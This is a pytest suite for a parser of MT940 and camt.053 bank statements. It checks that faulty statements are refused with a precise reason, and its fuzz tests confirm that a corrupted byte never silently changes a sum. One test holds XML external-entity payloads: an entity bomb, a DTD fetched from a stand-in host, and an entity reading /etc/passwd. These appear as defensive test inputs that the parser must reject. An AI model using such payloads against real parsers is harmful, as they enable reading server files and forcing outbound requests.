"""What a statement file must be to be taken, and what is said when it is not."""

from __future__ import annotations

from datetime import date
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from escrow_monitor.banks.formats import FileRefused, StatementFile, read_statements
from escrow_monitor.banks.statement_reading import covered_days
from escrow_monitor.domain.statements import Refusal, RefusalReason, Statement, StatementKind

GOLDEN = Path(__file__).parent / "golden"
ZONE = ZoneInfo("Asia/Shanghai")
R = RefusalReason

MT940 = """\
:20:1
:25:371082001
:28C:1/1
:60F:C261119CNY100,00
:61:2611201120D30,00NTRFNONREF
:86:退费
:62F:C261120CNY70,00
-
"""
CAMT = """\
<?xml version="1.0" encoding="UTF-8"?>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"><BkToCstmrStmt><Stmt><Id>1</Id>
<Acct><Id><Othr><Id>371082001</Id></Othr></Id><Ccy>CNY</Ccy></Acct>
<Bal><Tp><CdOrPrtry><Cd>OPBD</Cd></CdOrPrtry></Tp><Amt Ccy="CNY">100.00</Amt><CdtDbtInd>CRDT</CdtDbtInd>
<Dt><Dt>2026-11-19</Dt></Dt></Bal>
<Bal><Tp><CdOrPrtry><Cd>CLBD</Cd></CdOrPrtry></Tp><Amt Ccy="CNY">70.00</Amt><CdtDbtInd>CRDT</CdtDbtInd>
<Dt><Dt>2026-11-20</Dt></Dt></Bal>
<Ntry><Amt Ccy="CNY">30.00</Amt><CdtDbtInd>DBIT</CdtDbtInd><Sts>BOOK</Sts>
<BookgDt><Dt>2026-11-20</Dt></BookgDt></Ntry>
</Stmt></BkToCstmrStmt></Document>
"""


def read(text: str | bytes, format: str = "auto") -> StatementFile | FileRefused:
    content = text.encode() if isinstance(text, str) else text
    return read_statements(content, filename="f", format=format, zone=ZONE)


def statements(text: str | bytes) -> tuple[Statement, ...]:
    answer = read(text)
    assert isinstance(answer, StatementFile), answer.refusals
    return answer.statements


def refusal(text: str | bytes, format: str = "auto") -> Refusal:
    answer = read(text, format)
    assert isinstance(answer, FileRefused), answer.statements
    return answer.refusals[0]


def changed(text: str, old: str, new: str) -> str:
    assert old in text
    return text.replace(old, new, 1)


def test_the_two_plain_files_load() -> None:
    for text in (MT940, CAMT):
        (statement,) = statements(text)
        assert statement.kind is StatementKind.END_OF_DAY
        assert (statement.opening_on, statement.closing_on) == (date(2026, 11, 19), date(2026, 11, 20))
        assert [entry.amount.text for entry in statement.entries] == ["-30.00"]
        assert statement.closing is not None
        assert statement.closing.text == "70.00"


@pytest.mark.parametrize(
    ("old", "new", "reason", "where", "field"),
    [
        (":62F:C261120CNY70,00", ":62F:C261120CNY70,01", R.DOES_NOT_TIE, "f:7", ":62F:"),
        (":62F:C261120CNY70,00", ":62F:C261120USD70,00", R.WRONG_CURRENCY, "f:7", ":62F:"),
        (":62F:C261120CNY70,00", ":62F:C261120CNY7000", R.BAD_AMOUNT, "f:7", ":62F:"),
        (":62F:C261120CNY70,00", ":62F:C261120CNY70,000", None, "", ""),
        (":62F:C261120CNY70,00", ":62F:C261120CNY70,001", R.BAD_AMOUNT, "f:7", ":62F:"),
        (":62F:C261120CNY70,00", ":62F:C261120CNY99999999999999999999,00", R.BAD_AMOUNT, "f:7", ":62F:"),
        (":62F:C261120CNY70,00", ":62F:C261120CNY9999999999999999,00", R.BAD_AMOUNT, "f:7", ":62F:"),
        (":62F:C261120CNY70,00", ":62F:C261120CNYNaN", R.BAD_AMOUNT, "f:7", ":62F:"),
        (":62F:C261120CNY70,00", ":62F:C261120CNY7e1,", R.BAD_AMOUNT, "f:7", ":62F:"),
        (":62F:C261120CNY70,00", ":62F:C261120CNY７０,00", R.BAD_AMOUNT, "f:7", ":62F:"),
        (":62F:C261120CNY70,00", ":62F:C261320CNY70,00", R.BAD_DATE, "f:7", ":62F:"),
        (":62F:C261120CNY70,00", ":62F:C260230CNY70,00", R.BAD_DATE, "f:7", ":62F:"),
        (":62F:C261120CNY70,00", ":62F:C261118CNY70,00", R.BAD_DATE, "f:1", "closing"),
        (":62F:C261120CNY70,00", ":62F:70,00", R.MALFORMED, "f:7", ":62F:"),
        (":62F:C261120CNY70,00", ":62M:C261120CNY70,00", R.MISSING_FIELD, "f:7", ":62F:"),
        (":62F:C261120CNY70,00", ":64:C261120CNY70,00", R.MISSING_FIELD, "f:1", ":62F:"),
        (":60F:C261119CNY100,00", ":60M:C261119CNY100,00", R.MISSING_FIELD, "f:4", ":60F:"),
        (":60F:C261119CNY100,00", ":60F:C261119CNY100,00\n:60F:C261119CNY100,00", R.MALFORMED, "f:5", ":60F:"),
        (":25:371082001", ":21:371082001", R.MISSING_FIELD, "f:1", ":25:"),
        (":25:371082001", ":25:ICBK/", R.MISSING_FIELD, "f:2", ":25:"),
        (":25:371082001", ":25:371082001\nmore", R.MALFORMED, "f:3", ":25:"),
        (":61:2611201120D30", ":61:2611201120X30", R.MALFORMED, "f:5", ":61:"),
        (":61:2611201120D30,00", ":61:2611201120D30", R.BAD_AMOUNT, "f:5", ":61:"),
        (":61:2611201120D30", ":61:2611311120D30", R.BAD_DATE, "f:5", ":61:"),
        (":61:2611201120D30", ":61:2611209920D30", R.BAD_DATE, "f:5", ":61:"),
        (":61:2611201120D30", ":61:2611201121D30", R.BAD_DATE, "f:5", "booking date"),
        (":61:", ":99:", R.MALFORMED, "f:5", ":99:"),
        (":20:1", "dear bank", R.MALFORMED, "f:1", None),
        ("-\n", "\n", None, "", ""),
        ("-\n", "-\n:86:more\n", R.MISSING_FIELD, "f:9", ":20:"),
    ],
)
def test_mt940_is_refused_by_line_and_field(
    old: str, new: str, reason: RefusalReason | None, where: str, field: str | None
) -> None:
    text = changed(MT940, old, new)
    if reason is None:
        statements(text)
        return
    found = refusal(text)
    assert (found.reason, found.where, found.field) == (reason, where, field)


@pytest.mark.parametrize(
    ("old", "new", "reason", "field"),
    [
        (">70.00<", ">70.01<", R.DOES_NOT_TIE, "closing"),
        (">70.00<", ">70,00<", R.BAD_AMOUNT, "Amt"),
        (">70.00<", ">7e1<", R.BAD_AMOUNT, "Amt"),
        (">70.00<", ">NaN<", R.BAD_AMOUNT, "Amt"),
        (">70.00<", ">-70.00<", R.BAD_AMOUNT, "Amt"),
        (">70.00<", ">12345678901234567890<", R.BAD_AMOUNT, "Amt"),
        (">70.00<", "><", R.MISSING_FIELD, "Amt"),
        ("CLBD", "CLAV", R.NO_BALANCE, "Bal CLBD"),
        ("OPBD", "CLBD", R.NO_BALANCE, "Bal OPBD"),
        ("<Ccy>CNY</Ccy>", "<Ccy>USD</Ccy>", R.WRONG_CURRENCY, "Bal OPBD"),
        ('<Ntry><Amt Ccy="CNY">', '<Ntry><Amt Ccy="USD">', R.WRONG_CURRENCY, "entry"),
        ('<Ntry><Amt Ccy="CNY">', '<Ntry><Amt Ccy="cny">', R.WRONG_CURRENCY, "Amt"),
        ("<Othr><Id>371082001</Id></Othr>", "", R.MISSING_FIELD, "Acct/Id"),
        ("DBIT", "OUT", R.MISSING_FIELD, "CdtDbtInd"),
        ("BOOK", "SOON", R.MISSING_FIELD, "Sts"),
        ("<Sts>", "<RvslInd>perhaps</RvslInd><Sts>", R.MALFORMED, "RvslInd"),
        ("<Dt><Dt>2026-11-20</Dt></Dt>", "<Dt><Dt>2026-11-31</Dt></Dt>", R.BAD_DATE, "Dt/Dt"),
        ("<Dt><Dt>2026-11-20</Dt></Dt>", "<Dt></Dt>", R.MISSING_FIELD, "Dt"),
        ("<BookgDt><Dt>2026-11-20", "<BookgDt><Dt>2026-11-21", R.BAD_DATE, "booking date"),
        ("camt.053", "camt.054", R.MALFORMED, "BkToCstmrStmt"),
        ("camt.053.001.02", "pain.001.001.03", R.UNKNOWN_FORMAT, "Document"),
        ("<Document", "<Docment", R.MALFORMED, None),
        ('encoding="UTF-8"', 'encoding="EBCDIC-9"', R.MALFORMED, "encoding"),
        ("<Ntry>", "<TxsSummry><TtlNtries><NbOfNtries>2</NbOfNtries></TtlNtries></TxsSummry><Ntry>", R.DOES_NOT_TIE,
         "TxsSummry/TtlNtries"),
        ("<Ntry>", "<TxsSummry><TtlDbtNtries><Sum>30.01</Sum></TtlDbtNtries></TxsSummry><Ntry>", R.DOES_NOT_TIE,
         "TxsSummry/TtlDbtNtries"),
        ("<Ntry>", "<TxsSummry><TtlDbtNtries><NbOfNtries>1</NbOfNtries><Sum>30</Sum></TtlDbtNtries></TxsSummry><Ntry>",
         None, None),
        ("</Stmt>", "<StmtPgntn><PgNb>1</PgNb><LastPgInd>false</LastPgInd></StmtPgntn></Stmt>", None, None),
    ],
)
def test_camt_is_refused_by_path_and_field(
    old: str, new: str, reason: RefusalReason | None, field: str | None
) -> None:
    text = changed(CAMT, old, new)
    if reason is None:
        statements(text)
        return
    found = refusal(text)
    assert (found.reason, found.field) == (reason, field)
    assert found.where.startswith("f")


@pytest.mark.parametrize(
    "declaration",
    [
        '<!DOCTYPE a [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>',
        '<!DOCTYPE a SYSTEM "http://192.0.2.1/evil.dtd">',
        '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://192.0.2.1/p"> %p;]>',
        "<!DOCTYPE Document>",
    ],
)
def test_a_document_type_or_entity_is_unsafe(declaration: str) -> None:
    assert refusal(CAMT.replace("?>\n", "?>\n" + declaration, 1)).reason is R.UNSAFE_XML
    assert refusal(CAMT.replace("?>\n", "?>\n" + declaration, 1).encode("utf-16")).reason in (R.UNSAFE_XML, R.MALFORMED)


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"", R.EMPTY), (b" \r\n\r\n", R.EMPTY), (b"\x00\x01\x02", R.UNKNOWN_FORMAT), (b"a,b,c\n", R.UNKNOWN_FORMAT),
        (b"%PDF-1.7", R.UNKNOWN_FORMAT), (b"<html></html>", R.UNKNOWN_FORMAT), (b"<", R.MALFORMED),
        (b"<a>" * 100_000, R.MALFORMED),
    ],
)
def test_what_is_no_statement_file_is_said_to_be_none(content: bytes, reason: RefusalReason) -> None:
    assert refusal(content).reason is reason


def test_deep_xml_ends_in_an_answer() -> None:
    depth = 200_000
    assert refusal(b"<a>" * depth + b"</a>" * depth).reason is R.UNKNOWN_FORMAT


def test_a_format_can_be_demanded() -> None:
    assert refusal(MT940, format="camt").reason is R.MALFORMED
    with pytest.raises(KeyError):
        read(MT940, format="bai9")


def test_utf_16_is_read() -> None:
    (statement,) = statements(CAMT.replace("UTF-8", "UTF-16").encode("utf-16"))
    assert statement.account_no == "371082001"


def test_entries_beyond_what_can_be_kept_exactly_are_refused() -> None:
    most = "90071992547409.91"
    entry = CAMT[CAMT.index("<Ntry>") : CAMT.index("</Ntry>") + 7].replace("DBIT", "CRDT").replace("30.00", most)
    assert refusal(CAMT.replace("<Ntry>", entry + "<Ntry>")).reason is R.BAD_AMOUNT
    line = f":61:2611201120C{most.replace('.', ',')}NTRFNONREF\n"
    assert refusal(MT940.replace(":61:", line + ":61:")).reason is R.DOES_NOT_TIE


def test_one_bad_statement_refuses_the_whole_file_and_names_every_fault() -> None:
    other = MT940.replace("371082001", "371082002")
    begin, end = CAMT.index("<Stmt>"), CAMT.index("</Stmt>") + len("</Stmt>")
    wrong = CAMT[begin:end].replace(">70.00<", ">71.00<")
    answer = read(CAMT[:end] + wrong + wrong + CAMT[end:])
    assert isinstance(answer, FileRefused)
    assert [fault.where for fault in answer.refusals] == ["f: Stmt[2]", "f: Stmt[3]"]
    assert refusal(MT940 + other.replace(":62F:C261120CNY70", ":62F:C261120CNY71")).where == "f:15"


def test_statements_of_one_account_must_chain_in_the_file() -> None:
    following = MT940.replace("C261120", "C261123").replace("C261119", "C261120").replace("2611201120", "2611231123")
    found = refusal(MT940 + following)
    assert (found.reason, found.where, found.field) == (R.DOES_NOT_CHAIN, "f:9", "opening")
    assert "opens with 100.00" in found.detail
    following = following.replace("CNY100,00", "CNY70,00").replace("C261123CNY70,00", "C261123CNY40,00")
    first, second = statements(MT940 + following)
    assert (second.covers_from, second.covers_to) == (date(2026, 11, 21), date(2026, 11, 23))
    # The order in the file does not matter, the days do.
    assert {one.covers_to for one in statements(following + MT940)} == {first.covers_to, second.covers_to}


def test_two_statements_for_one_day_contradict_each_other() -> None:
    again = MT940.replace("CNY100,00", "CNY70,00").replace("C261120CNY70,00", "C261120CNY40,00")
    assert refusal(MT940 + again).reason is R.CONTRADICTS


def test_one_number_under_two_bank_codes_is_not_one_account() -> None:
    first, second = (MT940.replace(":25:", f":25:{code}/") for code in ("ICBK", "ABOC"))
    assert refusal(first + second).reason is R.WRONG_ACCOUNT


def test_pages_must_meet() -> None:
    first = MT940.replace(":62F:", ":62M:")
    second = MT940.replace(":60F:C261119CNY100,00", ":60M:C261120CNY70,00").replace("120CNY70,00\n-", "120CNY40,00\n-")
    (whole,) = statements(first + second)
    assert (len(whole.entries), [entry.occurrence for entry in whole.entries]) == (2, [1, 2])
    assert refusal(first + second.replace("C261120CNY70", "C261120CNY71").replace("CNY40", "CNY41")).reason is (
        R.DOES_NOT_CHAIN
    )
    assert refusal(first + MT940).reason is R.MISSING_FIELD
    assert refusal(second).reason is R.MISSING_FIELD


def test_an_entry_without_a_booking_date_is_booked_within_the_days_of_its_statement() -> None:
    for value, booked in (("261101", 20), ("261120", 20), ("261130", 20)):
        (statement,) = statements(MT940.replace(":61:2611201120", f":61:{value}"))
        assert statement.entries[0].booked_on == date(2026, 11, booked)
        assert statement.covers_from == date(2026, 11, 20)


def test_the_booking_day_takes_the_year_next_to_its_value_date() -> None:
    text = MT940.replace("C261119", "C261230").replace("C261120", "C270102")
    (statement,) = statements(text.replace("2611201120", "2701021231"))
    assert statement.entries[0].booked_on == date(2026, 12, 31)
    (statement,) = statements(text.replace("2611201120", "2612310102"))
    assert statement.entries[0].booked_on == date(2027, 1, 2)


@pytest.mark.parametrize(
    ("opening", "closing", "stated", "first"),
    [
        (20, 20, [], 20), (20, 21, [], 21), (20, 22, [21, 22], 21), (20, 22, [20], 20), (20, 22, [3, 22], 20),
        (20, 20, [19], 20),
    ],
)
def test_the_days_a_statement_covers(opening: int, closing: int, stated: list[int], first: int) -> None:
    days = covered_days(
        opening_on=date(2026, 11, opening), closing_on=date(2026, 11, closing),
        stated=[date(2026, 11, day) for day in stated],
    )
    assert days == (date(2026, 11, first), date(2026, 11, closing))


def test_the_period_of_a_camt_statement_counts_unless_it_contradicts_the_balances() -> None:
    period = "<FrToDt><FrDtTm>{}T00:00:00+08:00</FrDtTm><ToDtTm>{}T23:59:59+08:00</ToDtTm></FrToDt><Acct>"
    for first, last, covers_from in (
        ("2026-11-19", "2026-11-20", 19), ("2026-11-20", "2026-11-20", 20), ("2026-11-18", "2026-11-20", 20),
        ("2026-11-19", "2026-11-21", 20), ("2007-10-18", "2007-10-18", 20),
    ):
        (statement,) = statements(CAMT.replace("<Acct>", period.format(first, last)))
        assert statement.covers_from == date(2026, 11, covers_from)


def test_totals_of_an_mt942_must_be_those_of_its_entries() -> None:
    text = (GOLDEN / "intraday.mt942").read_text("utf-8")
    assert refusal(text.replace(":90D:1CNY99,99", ":90D:2CNY99,99")).reason is R.DOES_NOT_TIE
    assert refusal(text.replace(":90C:1CNY1200,00", ":90C:1CNY1200,01")).reason is R.DOES_NOT_TIE
    assert refusal(text.replace(":90C:1CNY", ":90C:1USD")).reason is R.WRONG_CURRENCY
    assert refusal(text.replace(":90C:1CNY", ":90C:CNY")).reason is R.MALFORMED
    assert refusal(text.replace(":34F:CNYD0,", ":34F:D0,")).reason is R.MALFORMED


SUMMED = [path for path in sorted(GOLDEN.iterdir()) if path.suffix == ".sta" or "camt053" in path.name]


def sums(answer: StatementFile) -> list[tuple[object, ...]]:
    return [
        (one.currency, one.opening, one.closing, sorted(entry.amount.minor_units for entry in one.entries))
        for one in answer.statements
    ]


def check_damage(path: Path, place: int, value: int) -> None:
    content = path.read_bytes()
    place %= len(content)
    damaged = content[:place] + bytes([value]) + content[place + 1 :]
    answer = read_statements(damaged, filename=path.name, zone=ZONE)
    if isinstance(answer, StatementFile):
        whole = read_statements(content, filename=path.name, zone=ZONE)
        assert isinstance(whole, StatementFile)
        assert sums(answer) == sums(whole), (place, chr(value))


@settings(max_examples=1500, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(path=st.sampled_from(SUMMED), place=st.integers(0, 10_000), value=st.integers(0, 255))
@example(path=SUMMED[-1], place=0, value=0)
def test_one_damaged_byte_never_changes_a_sum_in_silence(path: Path, place: int, value: int) -> None:
    check_damage(path, place, value)


@pytest.mark.slow
@pytest.mark.parametrize("path", SUMMED, ids=lambda path: path.name)
def test_no_byte_of_the_golden_files_can_change_a_sum_in_silence(path: Path) -> None:
    for place in range(len(path.read_bytes())):
        for value in b"09CDMX:,-<\n\xff":
            check_damage(path, place, value)


@settings(max_examples=300, deadline=None)
@given(st.one_of(st.binary(max_size=400), st.text(alphabet=":0126FMCD5,-CNY\n", max_size=300).map(str.encode)))
def test_any_bytes_end_in_an_answer(content: bytes) -> None:
    for format in ("auto", "camt", "mt940"):
        read(content, format)
